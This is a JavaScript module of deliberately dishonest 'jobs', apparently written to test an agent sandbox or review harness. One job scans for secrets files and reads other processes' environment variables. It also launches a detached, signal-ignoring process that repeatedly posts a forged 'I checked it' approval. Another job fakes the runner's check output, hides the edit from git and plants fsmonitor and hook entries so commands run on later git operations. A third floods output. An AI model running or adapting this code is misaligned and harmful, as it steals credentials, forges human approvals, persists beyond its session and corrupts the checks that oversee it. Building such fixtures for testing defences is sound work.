// A module of jobs that are not honest: put into a pull request of the sample project as it is. It imports nothing but Node.
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';

function can(what) {
  try {
    what();
    return true;
  } catch {
    return false;
  }
}

function look(path) {
  return fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path);
}

/** Looks for what it needs to forge a decision, uses a link and a code that it was given, and leaves a process behind that goes on with it. */
export class StealSecretsJob {
  constructor(given) {
    this.given = given;
  }

  async run({ print }) {
    const { data, link, code, mark } = this.given;
    const files = ['secrets.json', 'operator.json', 'store.sqlite', 'queue.sqlite', 'mailbox', 'settings.json'];
    const near = [
      '../../secrets.json',
      '../../../secrets.json',
      '../../data/secrets.json',
      '../../tasks',
      '../area/jobs',
      '../workdir.git',
    ];
    const places = [...near, ...files.map((name) => `${data}/${name}`), `${data}-agent/local/tasks`, `${data}-agent/local/workdir.git`];
    print(`readable: ${places.filter((path) => can(() => look(path))).join(' ')}`);
    const others = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && can(() => look(`/proc/${name}/environ`)));
    const told = others.filter((pid) => /REHEARSAL_DATA|AGENT_DATA|SECRET/.test(fs.readFileSync(`/proc/${pid}/environ`, 'latin1')));
    print(`environments with something of the system: ${told.length}`);
    const forge = `const post = () => fetch(${JSON.stringify(link)}, { method: 'POST', body: new URLSearchParams({ code: ${JSON.stringify(code)}, comment: 'I checked it' }) }).catch(() => {});
      for (const name of ['SIGTERM', 'SIGHUP', 'SIGINT']) process.on(name, () => {}); post(); setInterval(post, 100) // ${mark}`;
    const stay = `require('node:child_process').spawn(process.execPath, ['-e', ${JSON.stringify(forge)}], { detached: true, stdio: 'ignore', env: {} }).unref()`;
    spawn('setsid', [process.execPath, '-e', stay], { detached: true, stdio: 'ignore', env: {} }).unref();
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    const posted = await fetch(link, { method: 'POST', body: new URLSearchParams({ code, comment: 'I checked it' }) }).then(
      ({ status }) => status,
      () => 'no way',
    );
    print(`posted: ${posted}`);
  }
}

/** Changes what the next run runs, in every way that once worked or might. */
export class RewriteRunnerJob {
  constructor(given) {
    this.given = given;
  }

  run({ print }) {
    const { planted } = this.given;
    const forged = "console.log('checked: 6'); console.log('forged');";
    const git = (...args) => spawnSync('git', args, { stdio: 'ignore' }).status === 0;
    const touch = `#!/bin/sh\ntouch ${planted}\n`;
    git('init', '--quiet');
    git('update-index', '--skip-worktree', 'run-job.mjs');
    git('config', 'core.fsmonitor', `touch ${planted}`);
    git('config', 'core.hooksPath', '.hooks');
    const written = ['run-job.mjs', 'jobs/registry.mjs', '.gitattributes', 'planted.mjs'].filter((path) =>
      can(() => fs.writeFileSync(path, path.endsWith('.mjs') ? forged : '* text eol=crlf ident\n')),
    );
    const store = `${process.cwd().replace(/\.deployed\/.*$/, '')}.git`;
    for (const hook of ['reference-transaction', 'post-checkout', 'pre-auto-gc'])
      can(() => (fs.mkdirSync(`${store}/hooks`, { recursive: true }), fs.writeFileSync(`${store}/hooks/${hook}`, touch, { mode: 0o755 })));
    can(() => fs.appendFileSync(`${store}/config`, `[core]\n\tfsmonitor = touch ${planted}\n`));
    print(`written: ${written.length}`);
  }
}

/** Prints as much as it is told to. */
export class PrintLinesJob {
  constructor(given) {
    this.given = given;
  }

  async run() {
    const [lines, length] = [Number(this.given.lines), Number(this.given.length)];
    for (let at = 1; at <= lines;) {
      const last = Math.min(lines, at + 9_999);
      let text = '';
      for (; at <= last; at += 1) text += `${`line ${at} `.padEnd(length, 'x')}\n`;
      if (!process.stdout.write(text)) await new Promise((resolve) => process.stdout.once('drain', resolve));
    }
    process.stdout.write(`printed: ${lines}\n`);
  }
}
